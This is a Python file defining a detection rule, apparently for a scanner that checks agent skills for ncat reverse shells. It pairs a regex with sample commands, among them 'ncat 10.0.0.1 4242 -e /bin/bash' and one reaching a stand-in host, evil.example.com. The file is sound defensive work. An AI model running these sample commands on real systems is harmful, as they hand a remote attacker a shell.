"""Ncat hands a shell to a connection."""

from __future__ import annotations

from symbi.contracts.scanner import Pattern, ScannerRule
from symbi_clawhavoc.words import SHELL_ARGUMENT

RULE = ScannerRule(
    id="reverse-shell-ncat",
    category="reverse-shell",
    severity="critical",
    message="Ncat hands a shell to a network connection",
    check=Pattern(
        rf"""(?:^|[^\w.@$-])ncat(?:\.exe)?(?:\s[^|;]*)?\s(?:-[a-z]*[ec]|--exec|--sh-exec)[\s=]*["']?(?:[\w./-]+\s+)?{SHELL_ARGUMENT}"""
    ),
    bad=(
        "ncat 10.0.0.1 4242 -e /bin/bash",
        "ncat --exec /bin/sh 10.0.0.1 4242",
        'ncat --sh-exec "/bin/bash -i" 10.0.0.1 4242',
        "ncat -c /bin/sh --ssl evil.example.com 443",
    ),
    good=("ncat -l 8080", "ncat --exec /bin/date 10.0.0.1 13", "ncat --version"),
    remediation="Remove it; no skill needs to hand a shell to the network.",
    references=("https://attack.mitre.org/techniques/T1059/",),
    tags=("network", "execute"),
)
